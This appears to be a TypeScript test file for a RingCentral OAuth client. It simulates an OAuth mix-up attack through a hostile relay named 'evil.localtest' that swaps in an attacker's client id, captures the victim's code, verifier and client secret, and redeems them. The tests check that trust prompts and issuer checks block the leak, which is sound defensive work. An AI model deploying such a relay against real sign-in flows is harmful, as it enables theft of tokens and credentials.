// The OAuth mix-up attack of issue 7 item 1 (RFC 9700 §4.4), over real HTTP: a workspace points
// ringcentral.server at a hostile server B. B answers the authorize request with a 302 to the genuine
// authorization server (the emulator) using the attacker's own app id but the victim's redirect_uri, state and
// code_challenge, and relays whatever reaches its token endpoint. B listens on 127.0.0.1, but the flow knows it
// as http://evil.localtest:PORT (a name the test resolves to 127.0.0.1), so the real trust policy sees a host
// that is neither RingCentral nor loopback.
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { runAuthorizationCodeFlow } from '../../src/core/oauth/authorizationCodeFlow';
import { parseCallback } from '../../src/core/oauth/callback';
import type { FetchLike } from '../../src/core/ringcentral/http';
import { PendingAuthorizations } from '../../src/core/oauth/pendingAuthorizations';
import { RingCentralClient, TOKEN_PATH } from '../../src/core/ringcentral/ringcentralClient';
import { nodeFetchAdapter } from '../../src/vscode/ringcentral/httpFetch';
import type { AppRegistration, Emulator } from '../../emulator/server';
import { scriptedServerTrust, ScriptedTrust } from '../fakes/serverTrust';
import { useEmulator } from '../../emulator/test/emulatorTestUtils';
import { IssuerMismatchError, UntrustedServerError } from '../../src/core/errors';

const REDIRECT = 'http://127.0.0.1:53134/callback';
const HOSTILE_NAME = 'evil.localtest';
const VICTIM_SECRET = 'victim-typed-secret-7c1e';

/** The attacker's public app at the genuine authorization server, with the victim's redirect URI registered. */
const ATTACKER_APP: AppRegistration = {
  clientId: 'attacker-public-app',
  redirectUris: [REDIRECT],
  permissions: ['ReadAccounts'],
  issueRefreshTokens: true,
  grantTypes: ['authorization_code', 'refresh_token'],
};

interface SeenByB {
  method: string;
  path: string;
  authorization?: string;
  body: string;
  query: string;
}

interface HostileServer {
  /** How the victim's settings name B. */
  url: string;
  seen: SeenByB[];
  close(): Promise<void>;
}

/** B: relays the sign-in to the emulator under the attacker's app id and keeps everything it is sent. */
async function startHostileServer(emu: Emulator): Promise<HostileServer> {
  const seen: SeenByB[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', async () => {
      const url = new URL(req.url ?? '/', 'http://b');
      seen.push({
        method: req.method ?? '',
        path: url.pathname,
        authorization: req.headers.authorization,
        body,
        query: url.search,
      });
      if (url.pathname === '/restapi/oauth/authorize') {
        url.searchParams.set('client_id', ATTACKER_APP.clientId);
        res
          .writeHead(302, {
            Location: `${emu.url}/restapi/oauth/authorize${url.search.replace(/^\?.*/, `?${url.searchParams}`)}`,
          })
          .end();
        return;
      }
      if (url.pathname === TOKEN_PATH) {
        // Redeem the stolen code and verifier as the attacker's app, and answer so the sign-in looks fine.
        const form = new URLSearchParams(body);
        form.set('client_id', ATTACKER_APP.clientId);
        const answer = await fetch(`${emu.url}${TOKEN_PATH}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
          body: form.toString(),
        });
        res.writeHead(answer.status, { 'Content-Type': 'application/json' }).end(await answer.text());
        return;
      }
      res.writeHead(404).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://${HOSTILE_NAME}:${port}`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** The test's name resolution: evil.localtest is 127.0.0.1 (the Host header still says evil.localtest). */
function resolveHostile(url: string): string {
  const parsed = new URL(url);
  if (parsed.hostname === HOSTILE_NAME) parsed.hostname = '127.0.0.1';
  return parsed.toString();
}

const fetchResolvingHostile: FetchLike = (url, init) =>
  nodeFetchAdapter(resolveHostile(url), { ...init, headers: { ...init.headers, Host: new URL(url).host } });

/** A browser that follows redirects hop by hop until it lands on the redirect URI (auto-approve is on). */
async function browse(authorizeUrl: string): Promise<string> {
  let url = authorizeUrl;
  for (let hop = 0; hop < 5; hop++) {
    if (url.startsWith(REDIRECT)) return url;
    const response = await fetch(resolveHostile(url), { redirect: 'manual' });
    await response.arrayBuffer();
    const location = response.headers.get('location');
    assert.ok(
      response.status === 302 && location,
      `the browser expected a redirect from ${url}, got ${response.status}`,
    );
    url = new URL(location, url).toString();
  }
  throw new Error('too many redirects');
}

/** Sign In as the extension runs it; against B, with the client secret the victim typed for "their" server. */
function signInThrough(server: string, trust: ScriptedTrust) {
  const clientSecret = server.includes(HOSTILE_NAME) ? VICTIM_SECRET : undefined;
  const client = new RingCentralClient({
    fetch: fetchResolvingHostile,
    server,
    clientId: ATTACKER_APP.clientId,
    clientSecret,
    timeoutMs: 5000,
    retries: 0,
  });
  const pending = new PendingAuthorizations();
  const opened: string[] = [];
  const run = runAuthorizationCodeFlow(
    {
      client,
      serverTrust: trust.trust,
      redirectUri: REDIRECT,
      clock: Date.now,
      preflight: true,
      waitForCallback: (state, signal) => pending.wait(state, signal),
      openBrowser: async (authorizeUrl) => {
        opened.push(authorizeUrl);
        pending.deliver(parseCallback(await browse(authorizeUrl)));
      },
    },
    AbortSignal.timeout(10_000),
  );
  return { run, opened };
}

function tokenRequestsAt(emu: Emulator): number {
  return emu.requests.filter((request) => request.path === TOKEN_PATH).length;
}

describe('OAuth mix-up: a workspace points ringcentral.server at a hostile relay (RFC 9700 §4.4)', () => {
  describe('without iss on the callback (RingCentral today)', () => {
    const ctx = useEmulator({ rateLimit: false, autoApprove: true, apps: [ATTACKER_APP] });
    let hostile: HostileServer;
    beforeEach(async () => (hostile = await startHostileServer(ctx.emu)));
    afterEach(() => hostile.close());

    it('asks the user, naming the host; declined, nothing at all reaches B and no browser opens', async () => {
      const trust = scriptedServerTrust(() => false);
      const { run, opened } = signInThrough(hostile.url, trust);
      const error = await run.then(
        () => assert.fail('the sign-in through B must not succeed'),
        (caught: unknown) => caught,
      );
      const host = new URL(hostile.url).host;
      assert.ok(error instanceof UntrustedServerError, String(error));
      assert.equal(error.host, host);
      assert.ok(error.message.startsWith(`Nothing was sent to ${host}:`), error.message);
      assert.deepEqual(
        trust.asked.map((request) => [request.host, request.purpose]),
        [[host, 'signIn']],
      );
      assert.deepEqual(hostile.seen, [], 'B received no request: no code, verifier, secret or token');
      assert.deepEqual(opened, [], 'no browser was sent to B');
      assert.equal(tokenRequestsAt(ctx.emu), 0);
      assert.equal(trust.remembered.size, 0, 'a refusal is not remembered');
    });

    it('only a confirmed host gets the code and verifier (the attack itself, consented to), and the answer is remembered per host', async () => {
      const trust = scriptedServerTrust(() => true);
      const first = signInThrough(hostile.url, trust);
      await first.run;
      const token = hostile.seen.find((request) => request.path === TOKEN_PATH);
      assert.ok(token, 'after the user confirmed B, B is the token endpoint');
      assert.ok(new URLSearchParams(token.body).get('code_verifier'));
      assert.equal(
        token.authorization,
        `Basic ${Buffer.from(`${ATTACKER_APP.clientId}:${VICTIM_SECRET}`).toString('base64')}`,
      );
      await signInThrough(hostile.url, trust).run;
      assert.equal(trust.asked.length, 1, 'asked once for this host');
      assert.deepEqual([...trust.remembered], [new URL(hostile.url).host]);
    });

    it('the emulator on 127.0.0.1 is trusted by rule: no prompt', async () => {
      const trust = scriptedServerTrust(); // any prompt fails the test
      const result = await signInThrough(ctx.emu.url, trust).run;
      assert.ok(result.tokens.accessToken);
      assert.deepEqual(trust.asked, []);
    });
  });

  describe('with iss on the callback (RFC 9207)', () => {
    const ctx = useEmulator({ rateLimit: false, autoApprove: true, apps: [ATTACKER_APP], sendIssuer: true });
    let hostile: HostileServer;
    beforeEach(async () => (hostile = await startHostileServer(ctx.emu)));
    afterEach(() => hostile.close());

    it('even for a host the user confirmed, a callback from another issuer is refused before the code goes anywhere', async () => {
      const trust = scriptedServerTrust(() => true);
      const error = await signInThrough(hostile.url, trust).run.then(
        () => assert.fail('a code from another issuer must not be exchanged'),
        (caught: unknown) => caught,
      );
      assert.ok(error instanceof IssuerMismatchError, String(error));
      assert.equal(error.issuer, ctx.emu.url);
      assert.match(error.message, /The code was not sent anywhere/);
      assert.deepEqual(
        hostile.seen.map((request) => request.path),
        ['/restapi/oauth/authorize', '/restapi/oauth/authorize'],
        'B saw the pre-flight and the browser, never the token request',
      );
      assert.ok(
        hostile.seen.every(
          (request) => !request.authorization && request.body === '' && !/code_verifier|[?&]code=/.test(request.query),
        ),
      );
      assert.equal(tokenRequestsAt(ctx.emu), 0);
    });

    it('a callback whose iss names the server signs in', async () => {
      const result = await signInThrough(ctx.emu.url, scriptedServerTrust()).run;
      assert.ok(result.tokens.accessToken);
    });
  });
});
